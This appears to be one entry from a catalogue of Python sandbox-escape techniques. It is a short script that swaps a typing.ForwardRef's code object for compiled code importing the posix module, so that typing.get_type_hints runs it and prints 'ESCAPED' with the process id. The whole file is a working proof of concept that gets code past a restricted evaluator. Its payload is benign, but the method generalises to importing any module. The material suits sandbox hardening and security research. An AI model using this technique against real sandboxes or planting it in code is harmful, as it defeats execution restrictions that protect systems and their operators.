# technique: a ForwardRef whose code object was replaced
# python: 3.11-3.13
# goal: import
# source: own analysis: eval in trusted code
import typing
reference = typing.ForwardRef('int')
reference.__forward_code__ = compile('__import__("posix").getpid', 'x', 'eval')


class X:
    a: reference


print('ESCAPED pid=%d' % typing.get_type_hints(X)['a']())
